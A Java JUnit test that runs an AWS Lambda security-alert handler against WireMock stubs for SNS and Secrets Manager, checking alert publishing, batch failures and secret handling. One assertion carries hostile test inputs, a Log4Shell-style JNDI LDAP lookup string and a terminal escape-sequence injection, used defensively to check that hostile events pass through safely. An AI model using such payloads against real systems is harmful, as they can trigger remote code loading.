package io.firewatch.aws;

import static com.github.tomakehurst.wiremock.client.WireMock.aResponse;
import static com.github.tomakehurst.wiremock.client.WireMock.containing;
import static com.github.tomakehurst.wiremock.client.WireMock.equalTo;
import static com.github.tomakehurst.wiremock.client.WireMock.post;
import static com.github.tomakehurst.wiremock.client.WireMock.postRequestedFor;
import static com.github.tomakehurst.wiremock.client.WireMock.urlEqualTo;
import static com.github.tomakehurst.wiremock.core.WireMockConfiguration.wireMockConfig;
import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.github.tomakehurst.wiremock.junit5.WireMockExtension;
import com.github.tomakehurst.wiremock.verification.LoggedRequest;
import io.firewatch.core.alert.Alert;
import io.firewatch.core.alert.AlertJson;
import io.firewatch.core.config.Settings;
import io.firewatch.core.testing.Fixtures;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.concurrent.TimeUnit;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.junit.jupiter.api.io.TempDir;

/**
 * The packaged handler inside the real Lambda Java runtime client (a separate JVM, as on Lambda), fed by a Runtime API
 * stub, publishing through the real AWS SDK to a WireMock that stands in for SNS and Secrets Manager.
 */
class LambdaRuntimeTest {
    private static final ObjectMapper MAPPER = new ObjectMapper();
    private static final String TOPIC = "arn:aws:sns:eu-west-1:111122223333:firewatch-alerts";
    private static final String TEAMS_SECRET = "arn:aws:secretsmanager:eu-west-1:111122223333:secret:firewatch/teams-AbCdEf";

    @RegisterExtension
    static WireMockExtension aws = WireMockExtension.newInstance()
            .options(wireMockConfig().dynamicPort().bindAddress("127.0.0.1"))
            .build();

    @TempDir
    Path dir;

    private RuntimeApiStub runtimeApi;
    private Process function;
    private Path stdout;

    @BeforeEach
    void start() throws IOException {
        aws.stubFor(post(urlEqualTo("/")).withRequestBody(containing("Action=Publish"))
                .willReturn(aResponse().withStatus(200).withHeader("Content-Type", "text/xml")
                        .withBody(SnsRequests.publishResponse("94f20ce6-13c5-43a0-9a9e-ca52d816e90b"))));
        aws.stubFor(post(urlEqualTo("/")).withHeader("X-Amz-Target", equalTo("secretsmanager.GetSecretValue"))
                .willReturn(aResponse().withStatus(200).withHeader("Content-Type", "application/x-amz-json-1.1")
                        .withBody("{\"ARN\":\"" + TEAMS_SECRET + "\",\"Name\":\"firewatch/teams\",\"SecretString\":\""
                                + aws.baseUrl() + "/webhookb2/secret-signature\",\"VersionId\":\"v1\",\"VersionStages\":[\"AWSCURRENT\"]}")));
        aws.stubFor(post(urlEqualTo("/webhookb2/secret-signature")).willReturn(aResponse().withStatus(202)));

        runtimeApi = new RuntimeApiStub();
        stdout = dir.resolve("function.log");
        ProcessBuilder pb = new ProcessBuilder(javaBinary(), "-cp", testClassPath(),
                "com.amazonaws.services.lambda.runtime.api.client.AWSLambda",
                "io.firewatch.aws.EventBridgeHandler::handleRequest");
        Map<String, String> env = pb.environment();
        env.keySet().removeIf(k -> k.startsWith("AWS_") || k.startsWith("FIREWATCH_") || k.startsWith("_LAMBDA"));
        env.put("AWS_LAMBDA_RUNTIME_API", runtimeApi.address());
        env.put("AWS_LAMBDA_FUNCTION_NAME", "firewatch");
        env.put("AWS_LAMBDA_FUNCTION_MEMORY_SIZE", "512");
        env.put("AWS_LAMBDA_FUNCTION_VERSION", "1");
        env.put("AWS_REGION", "eu-west-1");
        env.put("AWS_ACCESS_KEY_ID", "AKIDTEST");
        env.put("AWS_SECRET_ACCESS_KEY", "test-secret");
        env.put("AWS_CONFIG_FILE", dir.resolve("no-config").toString());
        env.put("AWS_SHARED_CREDENTIALS_FILE", dir.resolve("no-credentials").toString());
        env.put("AWS_EC2_METADATA_DISABLED", "true");
        env.put("AWS_ENDPOINT_URL", aws.baseUrl());
        // One SDK retry is enough to show retries happen and keeps the failing case short.
        env.put("AWS_MAX_ATTEMPTS", "2");
        env.put("FIREWATCH_SNS_TOPIC_ARN", TOPIC);
        env.put("FIREWATCH_TEAMS_WEBHOOK_URL_SECRET_ARN", TEAMS_SECRET);
        pb.redirectErrorStream(true).redirectOutput(stdout.toFile());
        function = pb.start();
    }

    @AfterEach
    void stop() throws InterruptedException {
        if (function != null) {
            // The runtime client loops on invocation/next for ever; this process is ours to end.
            function.destroyForcibly();
            function.waitFor(5, TimeUnit.SECONDS);
        }
        if (runtimeApi != null) {
            runtimeApi.close();
        }
    }

    @Test
    void eventBridgeEventAndSqsBatchRunInTheRealRuntimeAndReachSns() throws Exception {
        RuntimeApiStub.Answer direct = runtimeApi.invoke(Events.bytes(Events.SSH_WORLD), 30_000).get(45, TimeUnit.SECONDS);
        assertThat(direct.error()).as(log()).isFalse();
        JsonNode directBody = MAPPER.readTree(direct.body());
        assertThat(directBody.path("alerts").asInt()).as(log()).isEqualTo(1);
        assertThat(directBody.path("failed").asBoolean()).isFalse();

        Alert expected = Fixtures.scan(Events.bytes(Events.SSH_WORLD)).only();
        List<LoggedRequest> publishes = aws.findAll(postRequestedFor(urlEqualTo("/")).withRequestBody(containing("Action=Publish")));
        assertThat(publishes).hasSize(1);
        Map<String, String> form = SnsRequests.form(publishes.get(0).getBodyAsString());
        assertThat(form).containsEntry("TopicArn", TOPIC).containsEntry("Message", AlertJson.toJson(expected))
                .containsEntry("Subject", SnsPublication.subject(expected));
        assertThat(SnsRequests.attributes(form)).containsExactlyInAnyOrderEntriesOf(Map.of(
                "severity", "String:critical", "provider", "String:aws",
                "account", "String:111122223333", "operation", "String:AuthorizeSecurityGroupIngress"));

        RuntimeApiStub.Answer batch = runtimeApi.invoke(Events.bytes(Events.SQS_ONE_BAD), 30_000).get(45, TimeUnit.SECONDS);
        assertThat(batch.error()).as(log()).isFalse();
        JsonNode failures = MAPPER.readTree(batch.body()).path("batchItemFailures");
        assertThat(failures).hasSize(1);
        assertThat(failures.get(0).path("itemIdentifier").asText()).isEqualTo(Events.BAD_MESSAGE);

        // The SSH alert was already taken by SNS in this container; only the deletion's alert is new.
        List<LoggedRequest> all = aws.findAll(postRequestedFor(urlEqualTo("/")).withRequestBody(containing("Action=Publish")));
        assertThat(all).hasSize(2);
        assertThat(SnsRequests.attributes(SnsRequests.form(all.get(1).getBodyAsString())))
                .containsEntry("operation", "String:DeleteSecurityGroup").containsEntry("severity", "String:high");

        // Hostile and malformed messages fail on their own; the hostile-but-valid event is a new critical alert.
        RuntimeApiStub.Answer hostile = runtimeApi.invoke(Events.bytes(Events.SQS_HOSTILE), 30_000).get(45, TimeUnit.SECONDS);
        assertThat(hostile.error()).as(log()).isFalse();
        List<String> failed = new java.util.ArrayList<>();
        MAPPER.readTree(hostile.body()).path("batchItemFailures").forEach(f -> failed.add(f.path("itemIdentifier").asText()));
        assertThat(failed).containsExactlyInAnyOrder("a1000000-0000-4000-8000-000000000002", "a1000000-0000-4000-8000-000000000003",
                "a1000000-0000-4000-8000-000000000004", "a1000000-0000-4000-8000-000000000005");
        List<LoggedRequest> afterHostile = aws.findAll(postRequestedFor(urlEqualTo("/")).withRequestBody(containing("Action=Publish")));
        assertThat(afterHostile).hasSize(3);
        Map<String, String> hostileForm = SnsRequests.form(afterHostile.get(2).getBodyAsString());
        assertThat(hostileForm.get("Subject")).matches("[\\x20-\\x7e]{1,99}");
        assertThat(hostileForm.get("Message")).contains("\\u001B]0;pwned\\u0007").contains("${jndi:ldap://203.0.113.66/a}");

        // Teams works from Lambda through core's sink once core offers one: each new alert reached the webhook.
        if (!Settings.from(Map.of("FIREWATCH_TEAMS_WEBHOOK_URL", "https://teams.example/hook")).sinks().isEmpty()) {
            assertThat(aws.findAll(postRequestedFor(urlEqualTo("/webhookb2/secret-signature")))).hasSize(3);
        }

        // The Teams URL was fetched once, by reference, and never written to the log.
        assertThat(aws.findAll(postRequestedFor(urlEqualTo("/"))
                .withHeader("X-Amz-Target", equalTo("secretsmanager.GetSecretValue")))).hasSize(1);
        String log = log();
        assertThat(log).doesNotContain("secret-signature");
        assertThat(log).contains("\"type\":\"input-failure\"").contains("\"input\":\"sqs:" + Events.BAD_MESSAGE + "\"");
        assertThat(log).contains("\"type\":\"alert\"").contains("\"severity\":\"critical\"");
    }

    @Test
    void undeliverableDirectEventIsReportedToTheRuntimeAsAnError() throws Exception {
        aws.stubFor(post(urlEqualTo("/")).withRequestBody(containing("Action=Publish"))
                .willReturn(aResponse().withStatus(500).withBody(SnsRequests.errorResponse("Receiver", "InternalError", "down"))));
        RuntimeApiStub.Answer answer = runtimeApi.invoke(Events.bytes(Events.HOSTILE), 30_000).get(45, TimeUnit.SECONDS);
        assertThat(answer.error()).as(log()).isTrue();
        assertThat(answer.body()).contains("DeliveryFailedException");
        assertThat(log()).contains("\"type\":\"delivery-failure\"").contains("\"retryable\":true");
        assertThat(aws.findAll(postRequestedFor(urlEqualTo("/")).withRequestBody(containing("Action=Publish")))).hasSize(2);
    }

    private String log() {
        try {
            return Files.readString(stdout, StandardCharsets.UTF_8);
        } catch (IOException e) {
            return "(no log: " + e + ")";
        }
    }

    private static String javaBinary() {
        return Path.of(System.getProperty("java.home"), "bin", "java").toString();
    }

    /** Surefire runs tests from a manifest-only jar; its real class path is in this property. */
    private static String testClassPath() {
        String cp = System.getProperty("surefire.test.class.path");
        return cp != null && !cp.isBlank() ? cp : System.getProperty("java.class.path");
    }

}
